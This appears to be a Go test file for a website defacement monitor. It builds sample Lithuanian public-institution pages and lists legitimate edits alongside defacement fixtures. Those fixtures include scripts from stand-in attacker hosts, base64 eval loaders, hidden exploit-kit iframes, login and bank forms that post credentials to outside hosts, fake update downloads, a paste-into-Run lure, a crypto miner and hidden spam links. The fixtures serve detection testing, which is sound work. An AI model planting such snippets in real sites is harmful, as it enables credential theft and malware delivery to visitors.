package content_test

import (
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/budi-monitor/budi/internal/website/content"
)

// The page of a school as WordPress makes it, and of a library made by hand. What
// is edited and defaced below is put into them.
const school = `<!doctype html><html lang="lt"><head><meta charset="utf-8"><title>Vilniaus Žvėryno gimnazija – Pradžia</title>
<link rel="stylesheet" href="/wp-content/themes/mokykla/style.css?ver=6.4"><link rel="canonical" href="https://www.mokykla.example.lt/">
<script src="/wp-includes/js/jquery/jquery.min.js?ver=3.7.1"></script><script async src="https://www.googletagmanager.com/gtag/js?id=G-X"></script>
<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('js',new Date());</script>
<style>.menu-mobile{display:none}.screen-reader-text{position:absolute;left:-9999px;font-size:1px}</style></head>
<body class="home page"><a class="screen-reader-text" href="#content">Pereiti prie turinio</a><header class="top"><h1 class="site-title">Vilniaus Žvėryno gimnazija</h1>
<nav class="menu"><ul><li><a href="/apie/">Apie mus</a></li><li><a href="/naujienos/">Naujienos</a></li><li><a href="/tvarkarastis/">Tvarkaraštis</a></li><li><a href="/priemimas/">Priėmimas</a></li><li><a href="/kontaktai/">Kontaktai</a></li><li><a href="https://dienynas.tamo.lt/">Dienynas</a></li></ul></nav>
<div class="menu-mobile"><a href="/apie/">Apie mus</a><a href="/naujienos/">Naujienos</a></div></header><main id="content" class="content"><!--TOP-->
<article class="post"><h2><a href="/naujienos/rugsejo-1/">Mokslo metų pradžios šventė</a></h2><time datetime="2026-09-01">2026-09-01</time><p>Kviečiame mokinius, tėvelius ir mokytojus į mokslo metų pradžios šventę gimnazijos kieme. Renginio pradžia devintą valandą ryto, po jos – klasių valandėlės.</p><img src="/wp-content/uploads/2026/09/svente.jpg" alt="Šventė"></article>
<article class="post"><h2><a href="/naujienos/olimpiada/">Matematikos olimpiados nugalėtojai</a></h2><time datetime="2026-08-28">2026-08-28</time><p>Džiaugiamės mūsų mokiniais, respublikinėje matematikos olimpiadoje laimėjusiais tris prizines vietas. Sveikiname Ugnę, Joną ir juos parengusią mokytoją Rasą Petraitienę.</p></article>
<article class="post"><h2><a href="/naujienos/biblioteka/">Atnaujinta biblioteka</a></h2><time datetime="2026-08-20">2026-08-20</time><p>Vasarą sutvarkytoje bibliotekoje skaitytojų laukia naujos knygos, kompiuteriai ir jaukios skaitymo vietos. Biblioteka dirba nuo aštuntos iki šešioliktos valandos.</p></article><!--END-->
</main><aside class="side"><h3>Svarbu</h3><ul><li><a href="/dokumentai/veiklos-planas.pdf">Veiklos planas</a></li><li><a href="/dokumentai/viesieji-pirkimai.pdf">Viešieji pirkimai</a></li><li><a href="https://www.smm.lt/">Ministerija</a></li><li><a href="https://www.facebook.com/mokykla">Facebook</a></li></ul></aside>
<footer class="foot"><p>Biudžetinė įstaiga, kodas 190000000. Adresas: Mokyklos g. 1, Vilnius. Tel. +370 5 200 0000, el. paštas rastine@mokykla.example.lt</p><p>© 2026 Vilniaus Žvėryno gimnazija</p></footer><script src="/wp-includes/js/wp-embed.min.js"></script></body></html>`

const library = `<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>Rajono viešoji biblioteka</title><link rel="icon" href="/favicon.ico"></head>
<body bgcolor="#ffffff"><table width="100%" border="0"><tr><td colspan="2"><img src="/img/antraste.gif" alt="Biblioteka"><font size="5"><b>Rajono savivaldybės viešoji biblioteka</b></font></td></tr>
<tr><td valign="top" width="200"><a href="/index.html">Pradžia</a><br><a href="/paslaugos.html">Paslaugos</a><br><a href="/katalogas.html">Elektroninis katalogas</a><br><a href="/filialai.html">Filialai</a><br><a href="/renginiai.html">Renginiai</a><br><a href="/krastotyra.html">Kraštotyra</a><br><a href="/nuostatai.html">Nuostatai</a><br><a href="https://www.ibiblioteka.lt/">iBiblioteka</a><br><a href="/kontaktai.html">Kontaktai</a></td>
<td valign="top"><!--TOP--><h2>Renginiai lapkritį</h2><p><b>2026-11-12</b> Susitikimas su rašytoja. Pradžia 17 val. vaikų literatūros skyriuje. Kviečiame visus, mėgstančius skaityti ir diskutuoti apie knygas.</p><p><b>2026-11-20</b> Kompiuterinio raštingumo mokymai senjorams. Registracija telefonu arba atvykus į biblioteką. Mokymai nemokami.</p><p>Nauja paroda „Senosios miestelio fotografijos“ veiks iki mėnesio pabaigos. Eksponatus dovanojo krašto gyventojai.</p><!--END-->
<p>Darbo laikas: pirmadieniais–penktadieniais nuo 9 iki 18 val., šeštadieniais nuo 10 iki 15 val., sekmadieniais nedirbame. Paskutinė mėnesio diena – švaros diena.</p></td></tr>
<tr><td colspan="2"><small>Biblioteka © 2026. Lankytojų skaičius: 12345</small></td></tr></table></body></html>`

const municipality = `<!doctype html><html lang="lt"><head><meta charset="utf-8"><title>Rajono savivaldybė | Oficiali svetainė</title><script src="https://cdn.jsdelivr.net/npm/bootstrap@5/dist/js/bootstrap.min.js"></script><link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Roboto"></head>
<body><div id="app"><header><a class="logo" href="/">Rajono savivaldybė</a><form action="/paieska" method="get"><input name="q"></form></header><nav><a href="/gyventojams">Gyventojams</a><a href="/verslui">Verslui</a><a href="/struktura">Struktūra ir kontaktai</a><a href="/teisine-informacija">Teisinė informacija</a><a href="/veikla">Veiklos sritys</a><a href="/atviri-duomenys">Atviri duomenys</a><a href="/korupcijos-prevencija">Korupcijos prevencija</a></nav>
<section class="news"><!--TOP--><div class="item"><h3><a href="/naujienos/1">Mero kreipimasis į gyventojus</a></h3><span>2026 m. lapkričio 20 d.</span><p>Savivaldybės meras kviečia gyventojus dalyvauti svarstant kitų metų biudžetą. Pasiūlymus galima teikti raštu arba elektroniniu paštu iki mėnesio pabaigos.</p></div><div class="item"><h3><a href="/naujienos/2">Keičiasi autobusų tvarkaraščiai</a></h3><span>2026 m. lapkričio 18 d.</span><p>Nuo gruodžio pirmosios dienos keičiasi priemiesčio autobusų maršrutų tvarkaraščiai. Naujus laikus rasite stotelėse ir šioje svetainėje.</p></div><div class="item"><h3><a href="/naujienos/3">Gatvės remontas</a></h3><span>2026 m. lapkričio 15 d.</span><p>Vytauto gatvėje pradedami dangos remonto darbai. Prašome vairuotojų rinktis apylankas ir laikytis laikinų kelio ženklų.</p></div><!--END--></section>
<iframe src="https://www.google.com/maps/embed?pb=x" width="600" height="300"></iframe><footer>Savivaldybės administracija, kodas 188000000, Laisvės a. 1. Darbo laikas 8–17 val.</footer></div><script src="/js/app.js?v=12"></script></body></html>`

func pages() map[string]string {
	return map[string]string{"school": school, "library": library, "municipality": municipality}
}

func put(page, what string) string  { return strings.Replace(page, "<!--TOP-->", what+"<!--TOP-->", 1) }
func head(page, what string) string { return strings.Replace(page, "</head>", what+"</head>", 1) }
func foot(page, what string) string { return strings.Replace(page, "</body>", what+"</body>", 1) }
func main2(page, what string) string {
	a, rest, _ := strings.Cut(page, "<!--TOP-->")
	_, b, _ := strings.Cut(rest, "<!--END-->")
	return a + what + b
}

// edit is a change of a page.
type edit struct {
	name string
	make func(page string) string
}

// edits are what people do to their own pages.
func edits() []edit {
	news := func(title, text string) string {
		return fmt.Sprintf(`<article class="post"><h2><a href="/naujienos/nauja-%d/">%s</a></h2><time>2026-11-28</time><p>%s</p><img src="/wp-content/uploads/2026/11/n.jpg" alt=""></article>`, len(title), title, text)
	}
	in := func(what string) func(string) string { return func(p string) string { return put(p, what) } }
	atEnd := func(what string) func(string) string { return func(p string) string { return foot(p, what) } }
	swap := func(a, b string) func(string) string {
		return func(p string) string { return strings.ReplaceAll(p, a, b) }
	}
	return []edit{
		{"a news item", in(news("Kalėdinė mugė", "Kviečiame į kalėdinę mugę aktų salėje. Surinktos lėšos bus skirtos gyvūnų prieglaudai."))},
		{"three news items", in(news("Varžybos", "Tinklinio komanda laimėjo rajono varžybas.") + news("Ekskursija", "Septintokai lankėsi jūrų muziejuje Klaipėdoje.") + news("Susirinkimas", "Tėvų susirinkimas vyks ketvirtadienį šeštą valandą vakaro."))},
		{"all news replaced", func(p string) string {
			return main2(p, news("Nauja programa", "Nuo sausio pradedama nauja neformaliojo ugdymo programa, kurioje mokiniai kurs robotus ir programuos mikrovaldiklius.")+news("Stovykla", "Žiemos stovykla vyks per atostogas, registracija jau prasidėjo ir truks iki mėnesio pabaigos."))
		}},
		{"a film of YouTube", in(`<p>Vaizdo įrašas</p><iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/x" allowfullscreen></iframe>`)},
		{"a form of Google", in(`<p>Registracija</p><iframe src="https://docs.google.com/forms/d/e/x/viewform?embedded=true" width="640" height="800"></iframe>`)},
		{"a form of Microsoft", in(`<iframe src="https://forms.office.com/Pages/ResponsePage.aspx?id=x" width="640" height="480"></iframe>`)},
		{"the box of Facebook", in(`<div id="fb-root"></div><script async defer src="https://connect.facebook.net/lt_LT/sdk.js#xfbml=1"></script>`)},
		{"a link to a ministry", in(`<p>Daugiau – <a href="https://sam.lrv.lt/lt/naujienos">Sveikatos apsaugos ministerijos</a> svetainėje.</p>`)},
		{"many links to institutions", in(`<ul><li><a href="https://www.vmi.lt/">VMI</a><li><a href="https://www.sodra.lt/">Sodra</a><li><a href="https://epaslaugos.lt/">E. paslaugos</a><li><a href="https://www.vrk.lt/">VRK</a><li><a href="https://europa.eu/">ES</a><li><a href="https://www.regitra.lt/">Regitra</a><li><a href="https://www.e-tar.lt/">TAR</a></ul>`)},
		{"a link to a foreign partner", in(`<p>Projekto partneriai: <a href="https://www.gymnasium-bremen.de/">Brėmeno gimnazija</a> ir <a href="https://liceum.poznan.pl/">Poznanės licėjus</a>.</p>`)},
		{"links to learning sites", in(`<p><a href="https://kahoot.com/x">Kahoot</a> <a href="https://quizizz.com/">Quizizz</a> <a href="https://www.chess24-school.com/">Šachmatai</a></p>`)},
		{"a counter and a date", func(p string) string { return swap("12345", "12987")(swap("2026-11-12", "2026-12-03")(p)) }},
		{"new versions of files", func(p string) string {
			return swap("ver=6.4", "ver=6.5.2")(swap("ver=3.7.1", "ver=3.7.2")(swap("?v=12", "?v=13")(p)))
		}},
		{"white space only", func(p string) string { return strings.ReplaceAll(p, "><", ">\n  <") }},
		{"a bar about cookies", atEnd(`<div id="cookie" style="position:fixed;bottom:0;left:0;width:100%;z-index:99999"><p>Svetainėje naudojami slapukai.</p><button>Sutinku</button></div><script src="https://consent.cookiebot.com/uc.js" data-cbid="x"></script>`)},
		{"a message over the page", atEnd(`<div class="modal" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999"><div><h2>Dėmesio!</h2><p>Gruodžio 24 dieną biblioteka nedirba.</p><button>Uždaryti</button></div></div>`)},
		{"hidden tabs", in(`<div class="tabs"><div class="tab" style="display:none"><h3>Pamokų laikas</h3><p>Pirma pamoka prasideda 8.00, antra – 8.55, trečia – 9.50 valandą.</p></div><div style="display:none"><a href="/dokumentai/a.pdf">Dokumentas</a></div></div>`)},
		{"reCAPTCHA", head0(`<script src="https://www.google.com/recaptcha/api.js" async defer></script>`)},
		{"Matomo's own script", atEnd(`<script>var _paq=window._paq=window._paq||[];_paq.push(['trackPageView']);(function(){var u="https://mokykla.matomo.cloud/";_paq.push(['setTrackerUrl',u+'matomo.php']);var d=document,g=d.createElement('script'),s=d.getElementsByTagName('script')[0];g.async=true;g.src='https://cdn.matomo.cloud/mokykla.matomo.cloud/matomo.js';s.parentNode.insertBefore(g,s);})();</script>`)},
		{"a pixel of Facebook", atEnd(`<script>!function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){n.callMethod?n.callMethod.apply(n,arguments):n.queue.push(arguments)};t=b.createElement(e);t.async=!0;t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,document,'script','https://connect.facebook.net/en_US/fbevents.js');</script><noscript><img height="1" width="1" style="display:none" src="https://www.facebook.com/tr?id=1&ev=PageView&noscript=1"></noscript>`)},
		{"snow at Christmas", atEnd(`<script>(function(){for(var i=0;i<40;i++){var s=document.createElement('div');s.innerHTML='❄';s.style.cssText='position:fixed;top:-20px;left:'+Math.random()*100+'%';document.body.appendChild(s);}})();</script>`)},
		{"a black ribbon", func(p string) string { return strings.Replace(p, "<body", `<body style="filter:grayscale(1)"`, 1) }},
		{"remote teaching", func(p string) string {
			return put(p, `<div class="alert"><h2>Nuotolinis mokymas</h2><p>Dėl šalčio nuo lapkričio 29 dienos pamokos vyks nuotoliniu būdu. Prisijunkite prie <a href="https://teams.microsoft.com/">Teams</a> arba <a href="https://zoom.us/j/1">Zoom</a>. Konsultacijos teikiamos pagal tvarkaraštį.</p></div>`)
		}},
		{"a lesson about hackers", in(news("Saugesnio interneto diena: kaip neįkliūti hakeriams", "Policijos pareigūnas pasakojo, kaip įsilaužėliai pavagia slaptažodžius, kas yra kibernetinės atakos ir kaip apsisaugoti nuo hakerių."))},
		{"news of a breach elsewhere", in(news("Dėmesio: apsimetėliai siunčia klaidinančius laiškus", "Gauname pranešimų, kad įsilaužta į kelių įstaigų pašto dėžutes. Neatidarykite įtartinų nuorodų ir pakeiskite slaptažodžius."))},
		{"a text in Ukrainian", in(`<div lang="uk"><h2>Для українців</h2><p>Шановні батьки, запрошуємо дітей навчатися в нашій гімназії. Документи приймаються в канцелярії щодня з восьмої до шістнадцятої години. Просимо взяти з собою документ, що посвідчує особу.</p></div>`)},
		{"a text in English", in(`<div lang="en"><h2>Erasmus+ meeting in Vilnius</h2><p>Teachers from five countries met at our school to discuss the new project about sustainable development and digital skills.</p></div>`)},
		{"support of Ukraine", in(`<div class="banner"><img src="/img/ua.png" alt="Ukraina"><p>Slava Ukraini! Mokykla renka paramą Ukrainos vaikams.</p></div>`)},
		{"logos of a project", in(`<p><img src="/img/es.png"><img src="https://www.esinvesticijos.lt/uploads/logo.png"> Projektas finansuojamas Europos Sąjungos lėšomis.</p>`)},
		{"twenty documents", in(strings.Repeat(`<p><a href="/dokumentai/x.pdf">Viešojo pirkimo dokumentas</a></p>`, 20))},
		{"a title with a number of messages", func(p string) string { return strings.Replace(p, "<title>", "<title>Naujiena! ", 1) }},
		{"a description for search engines", head0(`<meta name="description" content="Oficiali svetainė: naujienos, tvarkaraščiai, kontaktai."><meta property="og:image" content="/img/og.jpg">`)},
		{"structured data", head0(`<script type="application/ld+json">{"@context":"https://schema.org","@type":"School","name":"Gimnazija","url":"https://www.mokykla.example.lt/"}</script>`)},
		{"a menu item", swap(`<a href="/kontaktai`, `<a href="/projektai/">Projektai</a> <a href="/kontaktai`)},
		{"a tool for readers", atEnd(`<script src="https://cdn.userway.org/widget.js" data-account="x"></script>`)},
		{"the weather", in(`<a class="weatherwidget-io" href="https://forecast7.com/lt/54d6925d28/vilnius/">VILNIUS</a><script>!function(d,s,id){var js,fjs=d.getElementsByTagName(s)[0];if(!d.getElementById(id)){js=d.createElement(s);js.id=id;js.src='https://weatherwidget.io/js/widget.min.js';fjs.parentNode.insertBefore(js,fjs);}}(document,'script','weatherwidget-io-js');</script>`)},
		{"a chat", atEnd(`<script>var Tawk_API=Tawk_API||{};(function(){var s1=document.createElement("script"),s0=document.getElementsByTagName("script")[0];s1.async=true;s1.src='https://embed.tawk.to/x/default';s0.parentNode.insertBefore(s1,s0);})();</script>`)},
		{"a shop of tickets", in(`<p>Bilietai: <a href="https://www.bilietai.lt/renginys/1">bilietai.lt</a></p>`)},
		{"a newspaper of pages", in(`<iframe src="https://issuu.com/mokykla/docs/laikrastis?embed=1" width="100%" height="400"></iframe>`)},
		{"a map of OpenStreetMap", in(`<iframe width="425" height="350" src="https://www.openstreetmap.org/export/embed.html?bbox=1"></iframe>`)},
		{"a video player with its own host", in(`<iframe src="https://player.vimeo.com/video/1" width="640" height="360"></iframe>`)},
		{"fonts of Google", head0(`<link href="https://fonts.googleapis.com/css2?family=Inter" rel="stylesheet"><link rel="preconnect" href="https://fonts.gstatic.com">`)},
		{"one item fewer", func(p string) string {
			a, b, ok := strings.Cut(p, `<article class="post"><h2><a href="/naujienos/biblioteka/">`)
			if !ok {
				return p
			}
			_, c, _ := strings.Cut(b, "</article>")
			return a + c
		}},
		{"a new year", swap("© 2026", "© 2027")},
		{"job offers", in(news("Ieškome mokytojų", "Gimnazija kviečia dirbti fizikos mokytoją. Gyvenimo aprašymą siųskite el. paštu. Atlyginimas – pagal koeficientą."))},
		{"an election", in(news("Rinkimai", "Balsavimo apylinkė įsikurs gimnazijos sporto salėje. Daugiau – <a href='https://www.vrk.lt/2027'>vrk.lt</a>.") + `<p>Kandidatai ir partijos agituoja pagal įstatymą.</p>`)},
		{"a warning of a storm", in(`<div class="alert alert-danger"><b>ĮSPĖJIMAS! Stiprus vėjas.</b> <a href="https://www.lt72.lt/">LT72</a> rekomendacijos: likite namuose, patikrinkite langus.</div>`)},
		{"a download of the e-signature program", in(`<p>Pasirašymui: <a href="https://www.registrucentras.lt/p/1">programa</a> (PDF instrukcija <a href="/dok/instrukcija.pdf">čia</a>).</p>`)},
		{"all assets under another address of the site", swap(`src="/wp-content/`, `src="https://cdn.mokykla.example.lt/wp-content/`)},
		{"accessible labels off the screen", in(`<span style="position:absolute;left:-9999px">Atidaroma naujame lange</span><span class="screen-reader-text">Meniu išskleisti ir suskleisti mygtukas</span>`)},
		{"a questionnaire about gambling", in(news("Paskaita apie priklausomybes", "Psichologė pasakojo, kaip atpažinti priklausomybę nuo lošimų ir kur kreiptis pagalbos."))},
		{"a carousel", in(`<div class="swiper"><div class="slide" style="opacity:0"><img src="/img/1.jpg"><h3>Atvirų durų diena</h3></div><div class="slide" style="opacity:1"><img src="/img/2.jpg"></div></div>`)},
	}
}

func head0(what string) func(string) string { return func(p string) string { return head(p, what) } }

// defacements are what others do to them.
func defacements() []edit {
	whole := func(text string) func(string) string { return func(string) string { return text } }
	in := func(what string) func(string) string { return func(p string) string { return put(p, what) } }
	atEnd := func(what string) func(string) string { return func(p string) string { return foot(p, what) } }
	instead := func(what string) func(string) string { return func(p string) string { return main2(p, what) } }
	return []edit{
		{"the classic", whole(`<html><head><title>Hacked By Xp0sed</title></head><body bgcolor="black"><center><h1><font color="red">Hacked By Xp0sed</font></h1><p>Greetz: all my friends</p></center></body></html>`)},
		{"under the old title", func(p string) string {
			t, _, _ := strings.Cut(strings.SplitN(p, "<title>", 2)[1], "</title>")
			return `<html><head><title>` + t + `</title></head><body style="background:#000"><h1>OWNED</h1><p>your security is a joke, admin</p></body></html>`
		}},
		{"in Lithuanian", instead(`<h1>Svetainė nulaužta</h1><p>Jūsų apsauga silpna. Čia buvo hakeriai.</p>`)},
		{"in Russian", whole(`<html><head><meta charset="utf-8"><title>Взломано</title></head><body><h1>Сайт взломан</h1><p>Россия победит. Своих не бросаем. Слава России!</p></body></html>`)},
		{"in Turkish", whole(`<html><head><title>Hacklendi</title></head><body><h1>Bu site hacklendi</h1><marquee>Ayyildiz Team tarafindan hacklendi</marquee></body></html>`)},
		{"a slogan in place of the news", instead(`<h2>STOP NATO</h2><p>Free Palestine. From the river to the sea.</p>`)},
		{"another picture for everything", whole(`<html><head><title>.</title></head><body style="margin:0;background:black"><img src="https://i.imgur-host.com/skull.png" style="width:100%;height:100vh"></body></html>`)},
		{"nearly nothing", whole(`<html><body>pwned</body></html>`)},
		{"nothing at all", whole(`<html><head><title></title></head><body></body></html>`)},
		{"one script of a stranger", func(p string) string { return head(p, `<script src="https://cdn-analytics-js.com/x.js"></script>`) }},
		{"a script at a bare address", atEnd(`<script src="http://185.220.101.5/j.php"></script>`)},
		{"a script that loads another", atEnd(`<script>var s=document.createElement('script');s.src='https://stat-counter-free.top/c.js';document.head.appendChild(s);</script>`)},
		{"eval of base64", atEnd(`<script>eval(atob('` + strings.Repeat("ZG9jdW1lbnQud3JpdGUo", 12) + `'))</script>`)},
		{"character codes", atEnd(`<script>document.write(String.fromCharCode(` + strings.Repeat("60,115,99,114,", 20) + `62))</script>`)},
		{"names in hex", atEnd(`<script>var _0x1a2b=['x'];(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d){while(--_0x9c0d){_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1f4));var _0x2b3c=function(_0x4d5e){return _0x1a2b[_0x4d5e];};</script>`)},
		{"an invisible frame", atEnd(`<iframe src="https://exploit-kit.info/in.cgi" width="1" height="1" style="visibility:hidden"></iframe>`)},
		{"a frame over everything", atEnd(`<iframe src="https://gate.example-landing.com/" style="position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:99999"></iframe>`)},
		{"hidden links of casinos", atEnd(`<div style="position:absolute;left:-9999px"><a href="https://best-casino-slots.com/">online casino</a> <a href="https://slotgacor88.vip/">slot gacor</a></div>`)},
		{"hidden links of pills", atEnd(`<div style="display:none"><a href="https://canadian-rx.net/">buy viagra online</a> <a href="https://rx-cheap.com/">cialis</a></div>`)},
		{"visible spam", in(`<p>Best online casino bonus, free spins and sports betting: <a href="https://1xbet-lt.com/">1xbet</a>, payday loans, buy viagra online, essay writing service</p>`)},
		{"Japanese spam", in(`<h2>スーパーコピー 激安 通販 ブランド 財布 送料無料 レプリカ</h2><p>楽天で人気のブランドコピー商品を激安価格で販売しています。財布、バッグ、時計など多数取り揃えております。安心の品質保証と送料無料でお届けします。今すぐご注文ください。</p>`)},
		{"links in the colour of the page", atEnd(`<p style="color:#fff;background:#fff"><a href="https://lazybos-internetu.com/">lažybos internetu</a> <a href="https://greitas-kreditas.net/">greitas kreditas</a></p>`)},
		{"a refresh to elsewhere", func(p string) string {
			return head(p, `<meta http-equiv="refresh" content="0;url=https://prize-win.top/">`)
		}},
		{"a script that leads away", atEnd(`<script>window.location.href="https://free-iphone-winner.com/lt";</script>`)},
		{"another base", func(p string) string {
			return strings.Replace(p, "<head>", `<head><base href="https://mirror-cdn.xyz/">`, 1)
		}},
		{"a form that sends elsewhere", in(`<form action="https://collect-login.com/save.php" method="post"><h2>Prisijunkite prie dienyno</h2><input name="user"><input type="password" name="pass"><button>Prisijungti</button></form>`)},
		{"a false update", atEnd(`<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999"><h1>Your browser is out of date</h1><p>Update Chrome now to continue</p><a href="https://update-chrome-secure.com/ChromeSetup.exe">Update</a></div>`)},
		{"a false check of humans", atEnd(`<div class="overlay"><h2>Verification steps</h2><p>Press Windows + R, then paste with Ctrl+V and press Enter</p></div>`)},
		{"a miner", atEnd(`<script src="/wp-content/c.js"></script><script>var miner=new CoinHive.Anonymous('x');miner.start();</script>`)},
		{"ransom", instead(`<h1>Your files have been encrypted</h1><p>Send 0.5 BTC to recover your data</p>`)},
		{"a handler in an element", in(`<img src=x onerror="eval(atob('YWxlcnQoMSk7ZG9jdW1lbnQubG9jYXRpb24='))">`)},
		{"a page in the address of a frame", in(`<iframe src="data:text/html;base64,PGgxPkhhY2tlZDwvaDE+" width="600" height="400"></iframe>`)},
		{"canonical elsewhere", func(p string) string { return head(p, `<link rel="canonical" href="https://togel-hari-ini.com/">`) }},
		{"spam in structured data", func(p string) string {
			return head(p, `<script type="application/ld+json">{"@type":"Product","name":"Slot Gacor Hari Ini","description":"situs slot online maxwin, bandar togel"}</script>`)
		}},
		{"spam in the description", func(p string) string {
			return head(p, `<meta name="description" content="Situs slot gacor, judi online, togel, rtp slot live, free spins casino bonus">`)
		}},
		{"a comment of the attacker", atEnd(`<!-- Hacked by Team Phantom, greetz to all -->`)},
		{"a program to download", in(`<p>Naujas tvarkaraštis: <a href="https://files-download-hub.com/tvarkarastis.exe">atsisiųsti</a></p>`)},
		{"political text in place of everything", instead(`<h1>Valdžia meluoja</h1><p>Šalin korumpuotą savivaldybę! Vagys valdžioje turi atsistatydinti. Sukilkite.</p>`)},
		{"thirty foreign links", atEnd(`<div>` + func() string {
			var b strings.Builder
			for i := range 40 {
				fmt.Fprintf(&b, `<a href="https://backlink-%d.com/">visit</a> `, i)
			}
			return b.String()
		}() + `</div>`)},
		{"letters with spaces", instead(`<h1>H A C K E D   B Y   G H O S T</h1>`)},
		{"letters with digits", func(p string) string { return strings.Replace(p, "<title>", "<title>H4ck3d By An0n | ", 1) }},
	}
}

// Of a second set, written after the weights were fixed: see docs/content.md for
// what the first run on it gave.
func laterEdits() []edit {
	in := func(what string) func(string) string { return func(p string) string { return put(p, what) } }
	atEnd := func(what string) func(string) string { return func(p string) string { return foot(p, what) } }
	return []edit{
		{"a gallery", in(strings.Repeat(`<figure><img src="/galerija/x.jpg" alt="Sporto šventė"><figcaption>Sporto šventė</figcaption></figure>`, 24))},
		{"a table of lessons", in(`<table>` + strings.Repeat(`<tr><td>Pirmadienis</td><td>Matematika 214</td><td>Fizika 301</td><td>Lietuvių kalba 105</td></tr>`, 40) + `</table>`)},
		{"a calendar of another site of the same owner", in(`<iframe src="https://kalendorius.mokykla.example.lt/m" width="300" height="300"></iframe>`)},
		{"a calendar of Google", in(`<iframe src="https://calendar.google.com/calendar/embed?src=x" width="800" height="600"></iframe>`)},
		{"a slide show of Canva", in(`<iframe loading="lazy" style="position:absolute;width:100%;height:100%;top:0;left:0" src="https://www.canva.com/design/x/view?embed"></iframe>`)},
		{"analytics of Clarity", atEnd(`<script>(function(c,l,a,r,i,t,y){c[a]=c[a]||function(){(c[a].q=c[a].q||[]).push(arguments)};t=l.createElement(r);t.async=1;t.src="https://www.clarity.ms/tag/"+i;y=l.getElementsByTagName(r)[0];y.parentNode.insertBefore(t,y);})(window,document,"clarity","script","x");</script>`)},
		{"a picture in the page itself", in(`<img src="data:image/png;base64,` + strings.Repeat("iVBORw0KGgo", 200) + `">`)},
		{"settings of a plug-in", atEnd(`<script>var settings={"ajaxurl":"https://www.mokykla.example.lt/wp-admin/admin-ajax.php","nonce":"a1b2c3","i18n":{"next":"Kitas","prev":"Ankstesnis"}};document.documentElement.className=document.documentElement.className.replace('no-js','js');</script>`)},
		{"an address of a mail hidden from robots", in(`<script>document.write('<a href="mai'+'lto:'+'info'+'@'+'mokykla.example.lt">info</a>');</script>`)},
		{"an emoji of WordPress", func(p string) string {
			return head(p, `<script>window._wpemojiSettings={"baseUrl":"https://s.w.org/images/core/emoji/14.0.0/72x72/","ext":".png"};!function(e,a,t){var n=a.createElement("canvas");function d(e){var t=a.createElement("script");t.src=e,t.defer=t.type="text/javascript",a.getElementsByTagName("head")[0].appendChild(t)}}(window,document,window._wpemojiSettings);</script>`)
		}},
		{"a partner in Poland and two in Germany", in(`<p>Partneriai: <a href="https://sp12.edu.pl/">SP12</a>, <a href="https://www.schule-nord.de/">Schule Nord</a>, <a href="https://kita-sonne.de/">Kita</a></p>`)},
		{"a list of web addresses for readers", in(`<ul><li><a href="https://www.gutenberg.org/">Gutenberg</a><li><a href="https://www.storynory.com/">Storynory</a><li><a href="https://ebooks.gramota.ru/">Skaitykla</a></ul>`)},
		{"an open letter", in(`<p>Atviras laiškas Vyriausybei dėl mokytojų atlyginimų: prašome peržiūrėti etatinį apmokėjimą ir klasių dydžius. Pasirašė 34 mokytojai.</p>`)},
		{"a meeting about Palestine at a library", in(`<p>Paskaita „Artimųjų Rytų istorija: Izraelis ir Gazos Ruožas“. Lektorius – istorikas, docentas. Trečiadienį 18 val.</p>`)},
		{"a play about pirates", in(`<h2>Spektaklis „Piratai“</h2><p>Vaikų teatras kviečia į premjerą. Bilietai platinami kasoje.</p>`)},
		{"a credit union among sponsors", in(`<p>Rėmėjai: <a href="https://www.kreda.lt/">Kredito unija</a>, <a href="https://www.iki.lt/">Iki</a>, <a href="https://www.senukai.lt/">Senukai</a>.</p>`)},
		{"a search that opens", func(p string) string {
			return head(p, `<style>.search-form{opacity:0;visibility:hidden;transition:.2s}.search-form.open{opacity:1}</style>`)
		}},
		{"an accordion of questions", in(strings.Repeat(`<div class="faq"><button>Klausimas</button><div class="answer" style="max-height:0;overflow:hidden"><p>Prašymai priimami elektroniniu būdu per e. sistemą arba atvykus į raštinę darbo valandomis, pasiėmus asmens dokumentą.</p></div></div>`, 6))},
		{"a first version in English", func(p string) string {
			return strings.Replace(p, "<!--TOP-->", `<p><a href="/en/" hreflang="en">English</a></p><!--TOP-->`, 1)
		}},
		{"other quotation marks and dashes", func(p string) string { return strings.NewReplacer("–", "-", "„", "\"", "“", "\"").Replace(p) }},
	}
}

// laterDefacements are of the same second set.
func laterDefacements() []edit {
	whole := func(text string) func(string) string { return func(string) string { return text } }
	in := func(what string) func(string) string { return func(p string) string { return put(p, what) } }
	atEnd := func(what string) func(string) string { return func(p string) string { return foot(p, what) } }
	return []edit{
		{"a shop in place of the page", whole(`<!doctype html><html lang="en"><head><title>Outlet store - 70% off today</title><link rel="stylesheet" href="/a.css"></head><body><header><h1>Designer bags outlet</h1></header><ul><li>Leather bag 49.99</li><li>Sunglasses 19.99</li><li>Running shoes 39.99</li></ul><footer>Free shipping worldwide</footer></body></html>`)},
		{"a page for sale", whole(`<html><head><title>This domain is for sale</title></head><body><h1>This domain may be for sale</h1><p>Inquire now about this premium domain name</p></body></html>`)},
		{"a script at evil.example", func(p string) string { return head(p, `<script src="https://evil.example/a.js"></script>`) }},
		{"a script without a scheme", atEnd(`<script src="//js.tracker-free.net/t.js"></script>`)},
		{"a frame at evil.example", in(`<iframe src="https://evil.example/login" width="100%" height="600"></iframe>`)},
		{"a form of a bank", in(`<form action="https://swed-lt.example/post"><p>Patvirtinkite banko duomenis</p><input name="id"><input name="pin"></form>`)},
		{"neutral hidden links", atEnd(`<div style="display:none">` + `<a href="https://a-one.example/">one</a><a href="https://b-two.example/">two</a><a href="https://c-three.example/">three</a><a href="https://d-four.example/">four</a><a href="https://e-five.example/">five</a></div>`)},
		{"one link of one pixel", atEnd(`<a href="https://money-site.example/" style="font-size:1px;color:#fff">.</a>`)},
